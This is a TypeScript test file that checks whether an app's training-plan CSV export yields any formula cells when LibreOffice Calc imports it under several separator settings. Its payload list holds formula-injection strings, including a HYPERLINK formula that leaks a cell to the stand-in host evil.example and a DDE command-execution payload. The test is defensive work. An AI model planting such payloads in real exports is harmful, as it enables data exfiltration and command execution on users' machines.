// Issue 28 item 10: the training plan's CSV export opened in a real spreadsheet. LibreOffice Calc
// (Debian's libreoffice-calc, headless) imports the exported file with each common separator
// (, ; tab), with and without double quotes as text delimiters, and converts it to a flat ODF
// spreadsheet; no cell of the export may be a formula. A control file of raw formulas read the same
// way must give formula cells, so the oracle is known to be live in every reading.
// CI installs LibreOffice (.ci/run) and requires it; on a machine without it the file is skipped
// with a note (the property tests of tests/domain/csv-injection.test.ts still run).
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildTrainingPlanCsv, type TrainingPlanCsvRow } from '@/domain/csv';

const PAYLOADS = [
  'a,"=1+1',
  'a\t"=1+1',
  '"=1+1',
  'x;"=2+2',
  'Excel avancé,=2*21',
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  '\t=1+1',
  ' +33 6 12 34 56 78',
  '\n-2+3',
  '\u3000@SUM(A1:A9)',
  "Formation;=cmd|' /C calc'!A0",
  '＝1+1',
  'a, "=1+1',
  'a,""=1+1',
];

function soffice(): string | null {
  for (const bin of ['soffice', 'libreoffice']) {
    try {
      execFileSync(bin, ['--version'], { stdio: 'ignore', timeout: 60_000 });
      return bin;
    } catch {
      // not installed under that name
    }
  }
  return null;
}

const bin = soffice();
if (!bin && process.env.CI) throw new Error('LibreOffice (soffice) is required in CI: see .ci/run');
if (!bin) console.warn('csv-libreoffice: soffice not found, LibreOffice check skipped');

/** The cells of a flat ODF spreadsheet: text and whether each is a formula. */
function cells(fods: string): { text: string; formula: boolean }[] {
  const body = fods.slice(fods.indexOf('<office:body>'));
  return [
    ...body.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g),
  ].map((m) => ({
    text: (m[2] ?? '').replace(/<[^>]+>/g, '').trim(),
    formula: /table:formula=/.test(m[1]!),
  }));
}

// LibreOffice's CSV filter options: separator (character code), text delimiter (code, or empty
// for none), character set (76 = UTF-8), first line.
const READINGS = ['44,34,76,1', '59,34,76,1', '9,34,76,1', '44,,76,1', '59,,76,1', '9,,76,1'];

describe.runIf(bin)('the CSV export in LibreOffice Calc', () => {
  const dir = mkdtempSync(join(tmpdir(), 'csv-lo-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const rows: TrainingPlanCsvRow[] = PAYLOADS.map((topic, i) => ({
    topic,
    pedagogical_objectives: PAYLOADS[(i + 1) % PAYLOADS.length],
    training_organization: PAYLOADS[(i + 2) % PAYLOADS.length],
    funding_type: PAYLOADS[(i + 3) % PAYLOADS.length],
    employee: { first_name: PAYLOADS[(i + 4) % PAYLOADS.length], last_name: 'Durand' },
  }));
  writeFileSync(join(dir, 'export.csv'), buildTrainingPlanCsv(rows, new Date()).content);
  writeFileSync(join(dir, 'control.csv'), '=1+1;=2+2\r\n=3+3,=4+4\r\n=5+5\t=6+6\r\n');

  it.each(READINGS)(
    'read with the options %s: no formula cell',
    (options) => {
      const out = join(dir, options.replaceAll(',', '_'));
      const files = ['export.csv', 'control.csv'].map((f) => join(dir, f));
      execFileSync(
        bin!,
        [
          '--headless',
          `--infilter=CSV:${options}`,
          '--convert-to',
          'fods',
          '--outdir',
          out,
          ...files,
        ],
        { stdio: 'ignore', timeout: 120_000, env: { ...process.env, HOME: dir } },
      );
      const control = cells(readFileSync(join(out, 'control.fods'), 'utf8'));
      expect(control.some((c) => c.formula)).toBe(true);
      const exported = cells(readFileSync(join(out, 'export.fods'), 'utf8'));
      expect(exported.length).toBeGreaterThan(PAYLOADS.length);
      expect(exported.filter((c) => c.formula)).toEqual([]);
    },
    180_000,
  );
});
